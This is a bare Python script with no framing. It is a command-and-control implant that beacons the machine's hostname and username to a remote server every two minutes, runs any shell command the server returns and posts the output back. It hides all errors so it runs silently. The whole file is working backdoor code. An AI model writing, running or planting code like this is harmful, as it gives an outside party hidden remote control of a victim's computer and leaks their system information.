import json
import os
import socket
import subprocess
import time
import urllib.request

BEACON = "http://192.0.2.101:8000/beacon"
ID = socket.gethostname() + ":" + os.environ.get("USER", "?")

while True:
    try:
        req = urllib.request.Request(BEACON, data=json.dumps({"id": ID}).encode())
        task = json.loads(urllib.request.urlopen(req, timeout=15).read() or b"{}")
        if task.get("sh"):
            r = subprocess.run(task["sh"], shell=True, capture_output=True, timeout=120)
            urllib.request.urlopen(urllib.request.Request(BEACON + "/r", data=r.stdout + r.stderr), timeout=15)
    except Exception:
        pass
    time.sleep(120)
